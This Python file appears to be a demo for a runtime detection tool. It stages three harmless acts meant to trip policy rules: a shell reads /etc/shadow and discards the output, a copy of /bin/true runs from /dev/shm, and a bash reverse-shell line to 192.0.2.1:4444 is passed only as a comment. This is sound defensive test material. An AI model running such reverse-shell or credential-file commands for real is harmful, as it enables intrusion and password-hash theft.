# SPDX-License-Identifier: Apache-2.0
"""Three acts that look suspicious and harm nothing; the default policy has a rule for each."""
import os
import pathlib
import shutil
import subprocess
import tempfile


def read_shadow():
    """an ordinary shell reads the password hashes (they are thrown away)"""
    subprocess.run(["sh", "-c", "cat /etc/shadow; :"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def run_from_shm():
    """a program is started from a directory that everybody can write to (a copy of /bin/true)"""
    base = "/dev/shm" if os.access("/dev/shm", os.W_OK | os.X_OK) else "/tmp"
    with tempfile.TemporaryDirectory(prefix="vedette-demo.", dir=base) as place:
        program = pathlib.Path(place) / "harmless"
        shutil.copy("/bin/true", program)
        subprocess.run([str(program)])


def reverse_shell_words():
    """a shell is given the words of a reverse shell (as a comment: nothing is connected)"""
    subprocess.run(["bash", "-c", ": # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])


ACTS = (read_shadow, run_from_shm, reverse_shell_words)


def perform(say):
    for act in ACTS:
        say(f"demo: {act.__doc__}")
        act()
